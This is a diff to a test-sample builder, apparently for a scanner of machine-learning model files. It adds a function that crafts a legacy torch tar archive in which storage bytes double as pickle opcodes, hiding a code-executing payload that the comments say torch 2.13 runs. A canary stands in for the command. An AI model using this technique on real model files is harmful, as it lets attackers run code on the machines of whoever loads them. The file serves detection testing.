@@ -3,6 +3,7 @@
 What the CVEs did is built as a shape only: nothing here overwrites memory, and the samples for them are never loaded.
 """
 
+import struct
 from collections.abc import Callable
 
 from tests.build import corpus_damage, safetensors_builder
@@ -18,6 +19,21 @@ Build = Callable[[str], bytes]
 
 def _tar(**members: bytes) -> bytes:
     return tar.tar_file(*(tar.Item(name, data) for name, data in members.items()))
+
+
+def _tar_storages(command: str, *, linked: bool = False) -> bytes:
+    """torch's oldest format, as torch 2.13 still reads it: raw numbers between pickles; their count is opcodes too."""
+    count = 0x58 | 0x10 << 8  # BINUNICODE of 16 bytes
+    numbers = b"a" * 13
+    hidden = evil(command, 2)
+    rest = count * 4 - len(numbers) - 5
+    numbers += b"B" + struct.pack("<I", rest + len(hidden)) + b"a" * rest
+    storage = p.whole(p.push(("0", "cpu", p.global_("torch", "FloatStorage"))), 2)
+    storages = p.whole(p.push(1), 2) + storage + struct.pack("<q", count) + numbers + hidden + p.STOP
+    nothing = p.whole(p.push(0), 2)
+    first = tar.Item("x" if linked else "storages", storages)
+    link = [tar.Item("storages", kind=tar.HARDLINK, link="x")] if linked else []
+    return tar.tar_file(first, tar.Item("tensors", nothing), tar.Item("pickle", nothing), *link)
 
 
 def _script_with_setstate(c: str) -> bytes:
@@ -194,6 +210,10 @@ def _samples() -> list[Sample]:
         "torch-package", "torch", "C10", "package.pt", _defaulted(_package), True, "torch.package", "flagged",
         "Python source in the archive is imported", needs="torch",
     )  # fmt: skip
+    made += [
+        Sample("torch-tar-storages", "torch", "C11", "model.tar", _defaulted(_tar_storages), note="torch 2.13 runs it"),
+        Sample("torch-tar-linked", "torch", "C11", "model.pt", lambda c=CANARY: _tar_storages(c, linked=True)),
+    ]
     return [*made, script, package]
 
 
